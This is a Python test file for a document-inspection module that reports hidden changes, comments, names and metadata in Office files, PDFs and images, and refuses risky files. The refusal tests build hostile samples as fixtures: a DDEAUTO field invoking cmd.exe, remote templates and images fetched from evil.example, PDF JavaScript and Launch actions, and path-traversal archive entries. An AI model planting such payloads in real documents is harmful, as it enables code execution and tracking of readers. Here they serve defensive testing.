"""The room that every file passes: what it says of what is in a file, and why it refuses one."""

import io
import zlib

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Text
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

from public.file_types import DOCX
from public.inspection import child
from public.inspection.findings import Refused
from tests.papers import (
    ONE_SHEET,
    WORKBOOK_RELATIONS,
    S,
    W,
    a_pdf,
    chunk,
    core,
    docx,
    exif,
    jpeg,
    odt,
    odt_meta,
    office,
    png,
    pptx,
    relations,
    segment,
    sheet,
    types,
    xlsx,
    zipped,
)


def found(content: bytes) -> dict:
    """What is found, by kind: how often, and samples."""
    return {code: (count, samples) for code, count, samples in child.look(content)["findings"]}


def refused(content: bytes) -> tuple[str, dict]:
    with pytest.raises(Refused) as caught:
        child.look(content)
    return caught.value.code, caught.value.said


def run(text: str, properties: str = "") -> str:
    return f"<w:r><w:rPr>{properties}</w:rPr><w:t>{text}</w:t></w:r>"


# --- Nothing hidden -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        docx(run("Seen")),
        xlsx(),
        pptx(),
        odt("<text:p>Seen</text:p>", {"Configurations2/accelerator/current.xml": ""}),
        png(),
        jpeg(),
    ],
)
def test_nothing_is_found_where_nothing_is_hidden(content):
    assert found(content) == {}


def test_pdf_says_with_what_it_was_made_and_how_many_pages_it_has():
    said = child.look(a_pdf(3))

    assert (said["type"], said["pages"]) == ("application/pdf", 3)
    assert said["findings"] == [("properties", 1, ["Producer: pypdf"])]


# --- What is found --------------------------------------------------------------------------


def test_word_file_tells_changes_comments_hidden_text_and_names():
    body = (
        '<w:p><w:ins w:author="Anna Koci"><w:r><w:t>new</w:t></w:r></w:ins>'
        '<w:del w:author="Ben Shaw"><w:r><w:delText>the old words</w:delText></w:r></w:del>'
        + run("unseen words", "<w:vanish/>")
        + run("seen", '<w:vanish w:val="0"/>')
        + run("unseen by its style", '<w:rStyle w:val="Secret"/>')
        + "</w:p>"
    )
    content = docx(
        body,
        {
            "word/styles.xml": f'<w:styles xmlns:w="{W}"><w:style w:styleId="Secret"><w:rPr>'
            "<w:vanish/></w:rPr></w:style></w:styles>",
            "word/comments.xml": f'<w:comments xmlns:w="{W}"><w:comment w:author="Carla Diaz">'
            f"<w:p>{run('Is this true?')}</w:p></w:comment></w:comments>",
            "docProps/core.xml": core(
                "<dc:creator>Anna Koci</dc:creator><cp:lastModifiedBy>Dora Eze</cp:lastModifiedBy>"
                "<dc:title>Draft 3, confidential</dc:title>"
            ),
            "docProps/app.xml": "<Properties><Template>Normal.dotm</Template>"
            "<Company>Ministry of Labour</Company></Properties>",
            "docProps/custom.xml": '<Properties><property name="Case"><lpwstr>17/24</lpwstr>'
            "</property></Properties>",
        },
    )

    assert found(content) == {
        "tracked": (2, ["the old words"]),
        "hidden_text": (2, ["unseen words", "unseen by its style"]),
        "comments": (1, ["Carla Diaz: Is this true?"]),
        "names": (4, ["Anna Koci", "Dora Eze", "Carla Diaz", "Ben Shaw"]),
        "properties": (
            3,
            ["Company: Ministry of Labour", "Title: Draft 3, confidential", "Case: 17/24"],
        ),
    }


def test_workbook_tells_hidden_sheets_rows_and_columns_comments_and_pivot_rows():
    content = xlsx(
        ONE_SHEET + '<sheet name="Salaries" sheetId="2" state="veryHidden" r:id="rId2"/>',
        {
            "xl/_rels/workbook.xml.rels": WORKBOOK_RELATIONS,
            "xl/worksheets/sheet1.xml": sheet(
                '<row r="1"><c r="A1"/></row><row r="2" hidden="1"/><row r="3" hidden="true"/>',
                before='<cols><col min="2" max="3" hidden="1"/></cols>',
            ),
            "xl/comments1.xml": f'<comments xmlns="{S}"><authors><author>Anna Koci</author>'
            "<author>tc={77}</author></authors><commentList><comment><text><r><t>Check</t></r>"
            "</text></comment><comment><text><t>[Threaded comment] Ask Ben</t></text></comment>"
            "</commentList></comments>",
            "xl/threadedComments/1.xml": "<ThreadedComments><threadedComment><text>Ask Ben</text>"
            "</threadedComment></ThreadedComments>",
            "xl/persons/person.xml": '<personList><person displayName="Ben Shaw"/></personList>',
            "xl/pivotCache/pivotCacheRecords1.xml": f'<pivotCacheRecords xmlns="{S}" count="40"/>',
            "xl/revisions/headers.xml": '<headers><header userName="Dora Eze"/></headers>',
        },
    )

    assert found(content) == {
        "hidden_sheets": (1, ["Salaries"]),
        "hidden_rows": (2, ["Rows"]),
        "hidden_columns": (1, ["Rows"]),
        "comments": (2, ["Check", "Ask Ben"]),
        "names": (3, ["Anna Koci", "Ben Shaw", "Dora Eze"]),
        "pivot_rows": (40, []),
        "tracked": (1, []),
    }


def test_presentation_tells_hidden_slides_and_objects_notes_and_comments():
    content = pptx(
        {
            "ppt/slides/slide2.xml": '<p:sld xmlns:p="p" show="0"><p:cNvPr name="Box 3"'
            ' hidden="1"/></p:sld>',
            "ppt/notesSlides/notesSlide1.xml": '<p:notes xmlns:p="p" xmlns:a="a"><p:sp>'
            '<p:ph type="body"/><a:t>Do not say this</a:t></p:sp><p:sp><p:ph type="sldNum"/>'
            "<a:t>1</a:t></p:sp></p:notes>",
            "ppt/comments/comment1.xml": '<p:cmLst xmlns:p="p"><p:cm><p:text>Wrong year</p:text>'
            "</p:cm></p:cmLst>",
            "ppt/commentAuthors.xml": '<p:cmAuthorLst xmlns:p="p"><p:cmAuthor name="Anna Koci"/>'
            "</p:cmAuthorLst>",
        }
    )

    assert found(content) == {
        "hidden_slides": (1, ["2"]),
        "hidden_objects": (1, ["Box 3"]),
        "notes": (1, ["Do not say this"]),
        "comments": (1, ["Wrong year"]),
        "names": (1, ["Anna Koci"]),
    }


def test_open_document_tells_changes_comments_hidden_text_names_and_properties():
    content = odt(
        "<text:tracked-changes><text:changed-region><text:deletion><office:change-info>"
        "<dc:creator>Anna Koci</dc:creator></office:change-info><text:p>the old words</text:p>"
        "</text:deletion></text:changed-region></text:tracked-changes>"
        "<text:p>Seen <office:annotation><dc:creator>Ben Shaw</dc:creator><text:p>True?</text:p>"
        '</office:annotation><text:span text:style-name="T1">unseen words</text:span></text:p>'
        '<text:section text:display="none"><text:p>a hidden part</text:p></text:section>',
        {
            "meta.xml": odt_meta(
                "<meta:initial-creator>Carla Diaz</meta:initial-creator><dc:title>Draft</dc:title>"
                '<meta:user-defined meta:name="Case">17/24</meta:user-defined>'
            ),
            "Versions/Version1": "an earlier one",
        },
        styles='<style:style style:name="T1"><style:text-properties text:display="none"/>'
        "</style:style>",
    )

    assert found(content) == {
        "earlier": (1, []),
        "tracked": (1, ["the old words"]),
        "comments": (1, ["True?"]),
        "hidden_text": (2, ["unseen words", "a hidden part"]),
        "names": (3, ["Anna Koci", "Ben Shaw", "Carla Diaz"]),
        "properties": (2, ["Title: Draft", "Case: 17/24"]),
    }


def test_pdf_tells_comments_layers_invisible_text_names_and_earlier_versions():
    def work(writer: PdfWriter):
        note = Text(rect=(0, 0, 9, 9), text="Is this true?")
        note[NameObject("/T")] = TextStringObject("Ben Shaw")
        writer.add_annotation(0, note)
        writer.add_metadata({"/Author": "Anna Koci", "/Title": "Draft 3"})
        drawn = DecodedStreamObject()
        drawn.set_data(b"BT 3 Tr (unseen) Tj ET")
        writer.pages[0][NameObject("/Contents")] = writer._add_object(drawn)
        layer = writer._add_object(
            DictionaryObject({NameObject("/Name"): TextStringObject("Map")})
        )
        writer._root_object[NameObject("/OCProperties")] = DictionaryObject(
            {NameObject("/D"): DictionaryObject({NameObject("/OFF"): ArrayObject([layer])})}
        )

    first = a_pdf(1, work)
    writer = PdfWriter(io.BytesIO(first), incremental=True)
    writer.add_metadata({"/Title": "Draft 4"})
    second = io.BytesIO()
    writer.write(second)

    assert found(first) == {
        "comments": (1, ["Ben Shaw: Is this true?"]),
        "invisible_text": (1, []),
        "names": (2, ["Ben Shaw", "Anna Koci"]),
        "properties": (2, ["Producer: pypdf", "Title: Draft 3"]),
        "layers": (1, ["Map"]),
    }
    assert found(second.getvalue())["earlier"] == (1, [])


def test_pictures_tell_place_camera_texts_and_what_stands_behind_them():
    everything = {
        "names": (1, ["Anna Koci"]),
        "properties": (1, ["Camera: Camera 1"]),
        "place": (1, ["46.20417, 6.14000"]),
    }
    caption = b"Photoshop 3.0\x008BIM" + b"\x1c\x02\x50\x00\x08Ben Shaw"

    assert found(jpeg(segment(0xE1, b"Exif\0\0" + exif()))) == everything
    assert found(png(chunk(b"eXIf", exif()))) == everything
    assert found(jpeg(segment(0xED, caption), segment(0xFE, b"for the minister"))) == {
        "names": (1, ["Ben Shaw"]),
        "properties": (1, ["Comment: for the minister"]),
    }
    texts = [
        chunk(b"tEXt", b"Author\0Anna Koci"),
        chunk(b"iTXt", b"Note\0\0\0\0\0\xc3\xa9t\xc3\xa9"),
    ]
    assert found(png(*texts)) == {
        "names": (1, ["Anna Koci"]),
        "properties": (1, ["Note: été"]),
    }
    assert found(png(after=b"film")) == found(jpeg(after=b"film")) == {"appended": (4, [])}


def test_documents_in_documents_and_their_pictures_are_looked_into():
    content = docx(
        parts={
            "word/media/image1.jpeg": jpeg(segment(0xE1, b"Exif\0\0" + exif())),
            "word/embeddings/Sheet1.xlsx": xlsx('<sheet name="Salaries" state="hidden"/>'),
        }
    )

    assert found(content) == {
        "place": (1, ["46.20417, 6.14000"]),
        "hidden_sheets": (1, ["Salaries"]),
        "embedded": (1, ["Sheet1.xlsx"]),
    }


def test_links_into_ones_own_network_are_told_and_links_of_readers_are_fine():
    links = relations(
        ("r1", "hyperlink", "https://un.org"),
        ("r2", "hyperlink", "file:///\\\\server\\drafts\\a.docx"),
        ("r3", "attachedTemplate", "file:///C:\\Users\\anna\\ministry.dotx"),
    )

    assert found(docx(parts={"word/_rels/document.xml.rels": links})) == {
        "local_paths": (
            2,
            [
                "file:///\\\\server\\drafts\\a.docx",
                "file:///C:\\Users\\anna\\ministry.dotx",
            ],
        )
    }


# --- What is refused ------------------------------------------------------------------------


def field(instruction: str) -> str:
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{instruction[:6]}'
        f"</w:instrText></w:r><w:r><w:instrText>{instruction[6:]}</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def with_action(**action: str):
    """A PDF that does this when it is opened."""

    def work(writer: PdfWriter):
        said = {
            NameObject(f"/{name}"): (NameObject if value[0] == "/" else TextStringObject)(value)
            for name, value in action.items()
        }
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(said))

    return a_pdf(1, work)


def with_button() -> bytes:
    """A PDF with a button on its second page that runs a script."""

    def work(writer: PdfWriter):
        action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript")})
        button = DictionaryObject(
            {NameObject("/Subtype"): NameObject("/Widget"), NameObject("/A"): action}
        )
        writer.pages[1][NameObject("/Annots")] = ArrayObject([writer._add_object(button)])

    return a_pdf(2, work)


def with_attachment() -> bytes:
    return a_pdf(1, lambda writer: writer.add_attachment("salaries.csv", b"a,b"))


OUTSIDE_TEMPLATE = relations(("r1", "attachedTemplate", "https://evil.example/t.dotm"))


@pytest.mark.parametrize(
    ("content", "code", "said"),
    [
        (b"MZ\x90\0 a program", "unknown", {}),
        (b"<html><script>alert(1)</script>", "unknown", {}),
        (b"GIF89a", "unknown", {}),
        (zipped({"mimetype": "application/epub+zip"}), "unknown", {}),
        (zipped({"[Content_Types].xml": types("text/plain")}), "unknown", {}),
        (zipped({"readme": "nothing"}), "unknown", {"where": "ZIP"}),
        (child.OLE + b"\0" * 600 + child.OLE_ENCRYPTED, "password", {}),
        (child.OLE + b"\0" * 600 + "WordDocument".encode("utf-16-le"), "old_office", {}),
        # macros, objects, and what starts programs
        (office(f"{DOCX}.macroEnabled"), "macros", {"where": "/part0.xml"}),
        (
            zipped(
                {
                    "[Content_Types].xml": types(
                        "application/vnd.ms-word.document.macroEnabled.main+xml"
                    )
                }
            ),
            "macros",
            {"where": "/part0.xml"},
        ),
        (docx(parts={"word/vbaProject.bin": "x"}), "macros", {"where": "word/vbaProject.bin"}),
        (odt(parts={"Basic/a.xml": "<x/>"}), "macros", {"where": "Basic/a.xml"}),
        (odt("<script:event-listener/>"), "macros", {"where": "content.xml"}),
        (docx(parts={"word/activeX/1.xml": "<x/>"}), "objects", {"where": "word/activeX/1.xml"}),
        (
            docx(parts={"word/embeddings/o.bin": child.OLE}),
            "objects",
            {"where": "word/embeddings/o.bin"},
        ),
        (docx(parts={"word/media/a.png": b"MZ\x90\0"}), "objects", {"where": "word/media/a.png"}),
        (docx(parts={"word/x.bin": zipped({"a": "b"})}), "objects", {"where": "ZIP"}),
        (odt("<draw:object-ole/>"), "objects", {"where": "content.xml"}),
        (docx(field("DDEAUTO c:\\\\cmd.exe")), "starts", {"where": "document.xml"}),
        (
            xlsx(parts={"xl/externalLinks/1.xml": "<externalLink><ddeLink/></externalLink>"}),
            "starts",
            {"where": "xl/externalLinks/1.xml"},
        ),
        (
            pptx(
                {"ppt/slides/slide2.xml": '<sld><hlinkClick action="ppaction://program"/></sld>'}
            ),
            "starts",
            {"where": "2"},
        ),
        # what is fetched from elsewhere
        (
            docx(parts={"word/_rels/settings.xml.rels": OUTSIDE_TEMPLATE}),
            "outside",
            {"target": "https://evil.example/t.dotm", "where": "word/_rels/settings.xml.rels"},
        ),
        (
            docx(
                parts={
                    "word/_rels/document.xml.rels": relations(
                        ("r1", "image", "https://evil.example/1.png")
                    )
                }
            ),
            "outside",
            {"target": "https://evil.example/1.png", "where": "word/_rels/document.xml.rels"},
        ),
        (
            docx(field('INCLUDEPICTURE "https://evil.example/1.png"')),
            "outside",
            {"target": "https://evil.example/1.png", "where": "document.xml"},
        ),
        (
            xlsx(
                ONE_SHEET,
                {
                    "xl/_rels/workbook.xml.rels": WORKBOOK_RELATIONS,
                    "xl/worksheets/sheet1.xml": sheet(
                        '<row><c><f>WEBSERVICE("https://evil.example")</f></c></row>'
                    ),
                },
            ),
            "outside",
            {"target": "WEBSERVICE", "where": "Rows"},
        ),
        (
            xlsx(
                parts={
                    "xl/connections.xml": '<connections><connection name="Payroll"/></connections>'
                }
            ),
            "outside",
            {"target": "Payroll", "where": "xl/connections.xml"},
        ),
        (
            odt('<draw:image xlink:href="https://evil.example/1.png"/>'),
            "outside",
            {"target": "https://evil.example/1.png", "where": "content.xml"},
        ),
        (
            with_action(S="/URI", URI="https://evil.example"),
            "outside",
            {"target": "https://evil.example", "page": 0},
        ),
        # PDF
        (with_action(S="/JavaScript"), "scripts", {"page": 0}),
        (with_action(S="/Launch"), "scripts", {"page": 0}),
        (with_button(), "scripts", {"page": 2}),
        (a_pdf() + b" /JavaScript (app.alert(1))", "scripts", {}),
        (with_attachment(), "attachment", {"page": 0}),
        (a_pdf(1, lambda writer: writer.encrypt("secret", algorithm="RC4-128")), "password", {}),
        (b"%PDF-1.7 and nothing", "damaged_pdf", {}),
        # what is broken, or made to mislead
        (docx()[:-30], "damaged", {"where": ""}),
        (office(parts={"word/document.xml": "<w"}), "damaged", {"where": "word/document.xml"}),
        (
            zipped({"mimetype": "application/vnd.oasis.opendocument.text"}),
            "damaged",
            {"where": "content.xml"},
        ),
        (docx(parts={"../../boot.xml": "<x/>"}), "paths", {"where": "../../boot.xml"}),
        (docx(parts={"C:\\boot.bin": "x"}), "paths", {"where": "C:\\boot.bin"}),
        (docx(parts={"/etc/passwd": "x"}), "paths", {"where": "/etc/passwd"}),
        (docx(parts={"WORD/document.xml": "<x/>"}), "twice", {"where": "word/document.xml"}),
        (png()[:-4], "damaged", {"where": ""}),
        (png().replace(b"IDAT", b"IDAX"), "damaged", {"where": "IDAX"}),
        (b"\x89PNG\r\n\x1a\n" + b"\0" * 20, "damaged", {"where": ""}),
        (jpeg()[:-2], "damaged", {"where": ""}),
        (b"\xff\xd8\xff\xe0" + b"\0" * 20, "damaged", {"where": ""}),
    ],
)
def test_what_readers_could_not_open_safely_is_refused_and_told_where(content, code, said):
    assert refused(content) == (code, said)


def test_script_in_a_packed_object_is_found():
    """Objects that stand in a compressed stream cannot be read in the bytes of the file."""
    packed = zlib.compress(b"9 0 << /S /JavaScript /JS (app.alert) >>")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(packed), packed),
    ]
    content, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    nowhere, at = b"\0\0\0\0", len(content)
    rows = [b"\1" + place.to_bytes(2, "big") + b"\0" for place in places]
    table = nowhere + b"".join(rows) + nowhere * 4 + b"\2\0\4\0"  # object 9 is the first in 4
    content += b"10 0 obj\n<< /Type /XRef /Size 10 /W [1 2 1] /Root 1 0 R /Length %d >>\n" % len(
        table
    )
    content += b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % (table, at)

    assert b"JavaScript" not in content
    assert len(PdfReader(io.BytesIO(content)).pages) == 1
    assert refused(content) == ("scripts", {"page": 0})
